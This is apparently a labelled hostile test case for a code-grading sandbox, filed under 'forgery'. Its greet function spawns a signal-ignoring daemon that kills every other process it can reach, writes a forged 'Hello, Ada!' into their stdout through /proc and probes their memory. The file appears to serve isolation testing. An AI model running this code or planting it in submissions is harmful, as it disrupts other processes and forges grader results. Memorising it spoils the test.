# hostile: {"title":"a daemon of the first check lies in wait for the process of the second","family":"forgery","expect":["failed","limit"]}
import os
import signal


def hunt():
    while True:
        for entry in filter(str.isdigit, os.listdir("/proc")):
            if int(entry) in (os.getpid(), os.getppid()):
                continue
            for attack in (
                lambda: os.kill(int(entry), signal.SIGKILL),
                lambda: open(f"/proc/{entry}/fd/1", "wb", buffering=0).write(b"Hello, Ada!\n"),
                lambda: open(f"/proc/{entry}/mem", "r+b").close(),
            ):
                try:
                    attack()
                except OSError:
                    pass


def daemon(work):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(number, signal.SIG_IGN)
            for fd in range(64):
                try:
                    os.close(fd)
                except OSError:
                    pass
            work()
        os._exit(0)
    os.wait()


def greet(name):
    daemon(hunt)
    return ""
